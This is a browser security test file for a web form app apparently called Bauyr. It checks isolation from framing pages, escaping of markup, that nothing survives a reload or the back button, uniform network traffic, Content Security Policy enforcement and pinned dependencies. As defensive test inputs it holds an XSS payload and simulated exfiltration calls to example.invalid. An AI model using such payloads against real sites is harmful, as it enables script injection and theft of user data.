/** What SECURITY.md promises against those who could want the answers, as far as no other file proves it. */
import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { persona, requestOf } from './support/cases.mjs';
import { inChromium, newTab } from './support/chromium.mjs';
import { goTo } from './support/page.mjs';
import { rushFromStart } from './support/rush.mjs';
import { serve } from './support/server.mjs';
import { SITE } from './support/site.mjs';
import { pause, until } from './support/tab.mjs';

/** @typedef {Awaited<ReturnType<typeof newTab>>} Tab */

inChromium('threats', (browser) => {
  /** @type {Tab} */
  let tab;

  /** @param {string} name @param {() => Promise<void>} act */
  const inTab = (name, act) =>
    test(name, async () => {
      tab = await newTab(browser());
      try {
        await act();
      } finally {
        await tab.close();
      }
    });

  inTab('a page that holds Bauyr in a frame cannot look into it and is told no answer', async () => {
    const host = await serve(fileURLToPath(new URL('.', import.meta.url)), {
      '/host.html': `<!doctype html><title>Host</title><iframe title="Bauyr" name="inner" src="${SITE}en/" width="400" height="600"></iframe>
<script>window.told = []; addEventListener('message', ({ data }) => told.push(JSON.stringify(data)));</script>`,
    });
    try {
      await tab.page.goto(`${host.address}host.html`);
      const frame = tab.page.frame('inner');
      assert.ok(frame);
      const { request } = persona('step-parent-and-half-sister');
      await frame
        .locator(`input[name=first][value="${request.service}"]`)
        .evaluate((choice) => /** @type {HTMLElement} */ (choice).click());
      await frame.locator('#start').click();
      await frame.waitForURL(/#\/(?!start)/);
      const seen = await tab.page.evaluate(() => {
        const { contentWindow, contentDocument } = /** @type {HTMLIFrameElement} */ (document.querySelector('iframe'));
        /** @param {() => unknown} read */
        const attempt = (read) => {
          try {
            return String(read());
          } catch (error) {
            return error instanceof DOMException ? error.name : String(error);
          }
        };
        return {
          document: contentDocument,
          address: attempt(() => contentWindow?.location.href),
          hash: attempt(() => contentWindow?.location.hash),
          told: /** @type {string[]} */ (Reflect.get(globalThis, 'told')),
        };
      });
      assert.deepEqual([seen.document, seen.address, seen.hash], [null, 'SecurityError', 'SecurityError']);
      for (const told of seen.told) assert.ok(!told.includes(request.service) && !told.includes('#/'), told);
    } finally {
      await host.close();
    }
  });

  inTab('markup in the words of a pack is shown as text', async () => {
    const marked = '<img src=x onerror="document.title=1"><b>bold</b>';
    await tab.page.route(/assets\/words\/en\./, async (route) => {
      const words = await (await route.fetch()).text();
      await route.fulfill({
        contentType: 'text/plain; charset=utf-8',
        body: words.replace(/^(ui-service-\w+) = .*/gm, `$1 = ${marked}`),
      });
    });
    await tab.page.goto(`${SITE}en/`);
    await until(async () => (await tab.page.locator('main').innerText()).includes(marked), 'the words of the pack');
    assert.equal(await tab.page.locator('main img, main b').count(), 0);
    assert.notEqual(await tab.page.title(), '1');
  });

  inTab('on a shared computer: reloading, or leaving and coming back, finds no answer', async () => {
    const request = requestOf('foster-siblings');
    await rushFromStart(tab, request, 'en', '#/ask/you');
    const answers = () => tab.page.locator('main :is(input:checked, dd)').count();
    await goTo(tab, '#/check-answers');
    assert.ok((await answers()) > 0, 'there are answers to be lost');
    await tab.page.reload();
    await tab.page.locator('main h1').waitFor();
    await pause(300);
    await goTo(tab, '#/check-answers').catch(() => undefined);
    assert.equal(await answers(), 0);
  });

  inTab('who leaves quickly leaves nothing that the way back could show', async () => {
    await tab.page
      .context()
      .route('https://www.google.com/**', (route) =>
        route.fulfill({ contentType: 'text/html', body: '<title>Elsewhere</title>' }),
      );
    await rushFromStart(tab, requestOf('foster-siblings'), 'en');
    await tab.page.locator('#exit').click();
    await until(async () => (await tab.page.title()) === 'Elsewhere', 'the other page');
    await tab.page.goBack();
    await tab.page.waitForLoadState();
    await pause(300);
    assert.equal(await tab.page.locator('main #outcome, main dd, main input:checked').count(), 0);
  });

  test('who watches the network sees the same, whatever is answered', async () => {
    const seen = [];
    for (const name of ['foster-siblings', 'step-parent-and-half-sister']) {
      tab = await newTab(browser());
      /** @type {string[]} */
      const requests = [];
      tab.page.on('request', (request) => requests.push(`${request.method()} ${request.url()}`));
      await rushFromStart(tab, requestOf(name), 'kk');
      await tab.close();
      // The picture for the tab is the browser's own affair: it asks once.
      seen.push(requests.filter((one) => !one.endsWith('.svg')).sort());
    }
    assert.ok((seen[0] ?? []).length > 3);
    assert.deepEqual(seen[0], seen[1]);
  });

  inTab('code that came in by a dependency can neither send to others, nor load from them, nor run text', async () => {
    await tab.page.goto(SITE);
    const directives = ['connect-src', 'form-action', 'frame-src', 'img-src', 'require-trusted-types-for', 'style-src-elem'];
    const did = await tab.page.evaluate(async () => {
      /** @type {string[]} */
      const violated = [];
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violated.push(effectiveDirective));
      Object.defineProperty(globalThis, 'violated', { value: violated });
      /** @type {Record<string, string>} */
      const did = {};
      // In a task of its own: what the test's tools run may do more than the page.
      await new Promise((done) => {
        setTimeout(async () => {
          /** @param {string} name @param {() => unknown} act */
          const attempt = async (name, act) => {
            try {
              await act();
              did[name] = 'done';
            } catch {
              did[name] = 'refused';
            }
          };
          await attempt('fetch', () => fetch('https://example.invalid/?answers'));
          await attempt('eval', () => Function('return 1')());
          await attempt('markup', () => void (document.body.innerHTML = '<b>x</b>'));
          const image = new Image();
          image.src = 'https://example.invalid/?answers';
          const frame = document.createElement('iframe');
          frame.src = 'https://example.invalid/?answers';
          const form = document.createElement('form');
          form.action = 'https://example.invalid/';
          const script = document.createElement('link');
          Object.assign(script, { rel: 'stylesheet', href: 'https://example.invalid/x.css' });
          document.body.append(image, frame, form, script);
          form.submit();
          done(undefined);
        }, 0);
      });
      return did;
    });
    assert.deepEqual(did, { fetch: 'refused', eval: 'refused', markup: 'refused' });
    for (const directive of directives)
      await until(() => tab.page.evaluate((one) => Reflect.get(globalThis, 'violated').includes(one), directive), directive);
  });

  test('every dependency is pinned by a fingerprint', async () => {
    const file = (/** @type {string} */ name) => readFile(new URL(`../../${name}`, import.meta.url), 'utf8');
    const { packages } = JSON.parse(await file('package-lock.json'));
    const loose = Object.entries(packages).filter(([path, { integrity, link }]) => path !== '' && !link && !integrity);
    assert.deepEqual(
      loose.map(([path]) => path),
      [],
    );
    const crates = (await file('Cargo.lock')).split('[[package]]').slice(1);
    assert.ok(crates.length > 20);
    assert.deepEqual(
      crates.filter((crate) => crate.includes('source = ') && !crate.includes('checksum = ')),
      [],
    );
  });
});
